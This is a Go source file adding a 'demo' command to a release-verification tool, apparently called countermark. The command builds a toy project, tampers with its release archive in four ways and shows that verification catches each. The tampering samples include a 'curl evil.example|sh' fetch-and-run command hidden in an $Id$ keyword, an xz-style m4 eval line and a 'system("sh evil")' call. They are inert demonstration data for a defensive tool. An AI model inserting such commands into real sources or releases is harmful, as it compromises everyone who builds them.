@@ -1,0 +1,186 @@
+package main
+
+import (
+	"bytes"
+	"context"
+	"errors"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+
+	"github.com/spf13/cobra"
+
+	"github.com/countermark/countermark/internal/report"
+)
+
+func newDemoCommand(s streams) *cobra.Command {
+	keep := ""
+	cmd := &cobra.Command{
+		Use:   "demo",
+		Short: "Show, on a small project in a temporary folder, what verify catches",
+		Long: "Makes a small project with a generated file, tags and releases it, verifies the release, and then\n" +
+			"tampers with it in four ways. It needs git, no network, and a second or two.\n\n" + exitHelp,
+		Args: cobra.NoArgs,
+		RunE: func(cmd *cobra.Command, _ []string) error { return runDemo(cmd.Context(), keep, s) },
+	}
+	cmd.Flags().StringVar(&keep, "keep", "", "work in the new `FOLDER` and leave it there, to look around")
+	return cmd
+}
+
+// demo is one showing: every step prints a command, runs it, and holds it to
+// the exit status that it must have.
+type demo struct {
+	s     streams
+	style report.Style
+	dir   string
+}
+
+// attack is one way to tamper with the release.
+type attack struct {
+	title   string // what the attacker does
+	why     string // what gives it away
+	members func(release) release
+	exit    int
+}
+
+var attacks = []attack{
+	{
+		title: "An attacker adds a file that looks generated, as in xz 5.6.0: m4/build-to-host.m4.",
+		why:   "No commit holds it and nobody has accepted it: an added file is named, however plausible.",
+		members: func(r release) release {
+			return r.with(member{name: "m4/build-to-host.m4", content: "dnl serial 30\neval \"$gl_path_map\" < tests/good-large_compressed.lzma\n"})
+		},
+		exit: exitDoesNot,
+	},
+	{
+		title: "An attacker hides a command inside $Id$, which git status never looks into.",
+		why:   "git writes one thing there: the id of the committed file. Anything else is a changed file.",
+		members: func(r release) release {
+			return r.change("hello.c", func(s string) string { return strings.Replace(s, "$Id: ", "$Id: $(curl evil.example|sh) ", 1) })
+		},
+		exit: exitDoesNot,
+	},
+	{
+		title:   "An attacker leaves out the test that would have caught them.",
+		why:     "Untarring over a checkout keeps the old copy, so git sees nothing. Both sides are listed here.",
+		members: func(r release) release { return r.without("tests/check.sh") },
+		exit:    exitDoesNot,
+	},
+	{
+		title: "An attacker puts a file in twice: tools that take the last see the honest one, others the first.",
+		why:   "An archive that can be read in two ways is refused, with the rule, the name and the place.",
+		members: func(r release) release {
+			return append(release{{name: "hello.c", content: "int main(void) { return system(\"sh evil\"); }\n"}}, r...)
+		},
+		exit: exitNoVerdict,
+	},
+}
+
+// runDemo shows the whole story. Exit status 0 means that every step went as
+// it must.
+func runDemo(ctx context.Context, keep string, s streams) (err error) {
+	d := &demo{s: s, style: styleFor(s.out), dir: keep}
+	if keep == "" {
+		if d.dir, err = os.MkdirTemp("", "countermark-demo-*"); err != nil {
+			return fmt.Errorf("making a temporary folder: %w", err)
+		}
+		defer func() { err = errors.Join(err, os.RemoveAll(d.dir)) }()
+	} else if err := os.Mkdir(keep, 0o755); err != nil {
+		return usage("name a folder that does not exist yet", "--keep: %v", err)
+	}
+	project, err := d.makeProject(ctx)
+	if err != nil {
+		return err
+	}
+	good, err := d.release(ctx, project)
+	if err != nil {
+		return err
+	}
+	for i, a := range attacks {
+		d.heading(fmt.Sprintf("Attack %d of %d. %s", i+1, len(attacks), a.title))
+		if err := a.members(good).write(d.path(archiveName)); err != nil {
+			return err
+		}
+		if err := d.verify(ctx, a.exit); err != nil {
+			return err
+		}
+		d.say("  → %s", a.why)
+	}
+	d.heading("All four were caught. Now a release of your own:")
+	d.say("  countermark verify NAME-VERSION.tar.gz --repo PATH-OR-URL")
+	if keep != "" {
+		d.say("  The project and the last archive are in %s.", keep)
+	}
+	return nil
+}
+
+// release shows the honest release, from tag to lock file.
+func (d *demo) release(ctx context.Context, project *demoProject) (release, error) {
+	d.heading("A project, hello, with one generated file. Its release 1.0 is tagged v1.0 in git.")
+	d.say("  hello.git  refs/tags/v1.0 = commit %s", project.commit[:12])
+	d.say("  %s  the files of that commit, and words.h, generated from words.txt", archiveName)
+	good := project.release()
+	if err := good.write(d.path(archiveName)); err != nil {
+		return nil, err
+	}
+	d.heading("Is the archive exactly that commit?")
+	if err := d.verify(ctx, exitDoesNot); err != nil {
+		return nil, err
+	}
+	d.say("  → The commit is all there, and one file more. A packager reads it, once, and records it.")
+	d.heading("The accepted difference goes into countermark.lock, to be kept beside the package.")
+	if err := d.verify(ctx, exitDoesNot, "--update-lock"); err != nil {
+		return nil, err
+	}
+	if err := d.verify(ctx, exitHolds); err != nil {
+		return nil, err
+	}
+	d.say("  → From now on this passes, and anything new or different fails.")
+	return good, nil
+}
+
+// verify runs the command in the demo's folder and holds it to an exit status.
+func (d *demo) verify(ctx context.Context, want int, flags ...string) error {
+	d.say("%s", d.bold("  $ countermark verify "+strings.Join(append([]string{archiveName, "--repo hello.git"}, flags...), " ")))
+	var out bytes.Buffer
+	o := verifyOptions{
+		archives: []string{d.path(archiveName)}, repo: d.path("hello.git"), lock: d.path(lockFileName),
+		decoder: "go", updateLock: len(flags) > 0, style: &d.style, mayLackLock: true,
+	}
+	err := runVerify(ctx, o, streams{in: d.s.in, out: &out, err: &out})
+	got := exitHolds
+	if reached, ok := errors.AsType[verdictReached](err); ok {
+		got = int(reached)
+	} else if err != nil {
+		f := failureOf(ctx, err)
+		got = f.exit()
+		complain(&out, f)
+	}
+	if ctx.Err() != nil {
+		return ctx.Err()
+	}
+	text := strings.ReplaceAll(out.String(), d.dir+string(filepath.Separator), "")
+	for line := range strings.Lines(text) {
+		d.say("    %s", strings.TrimSuffix(line, "\n"))
+	}
+	d.say("    exit status %d", got)
+	if got != want {
+		return &failure{code: report.Internal, detail: fmt.Sprintf("the demo expected exit status %d here; this is a defect of countermark", want)}
+	}
+	return nil
+}
+
+func (d *demo) path(name string) string { return filepath.Join(d.dir, name) }
+
+func (d *demo) heading(s string) { d.say("\n%s", d.bold(s)) }
+
+func (d *demo) bold(s string) string {
+	if d.style.Color {
+		return "\x1b[1m" + s + "\x1b[0m"
+	}
+	return s
+}
+
+// say prints a line as it happens: watching is the point.
+func (d *demo) say(format string, args ...any) { _, _ = fmt.Fprintf(d.s.out, format+"\n", args...) }
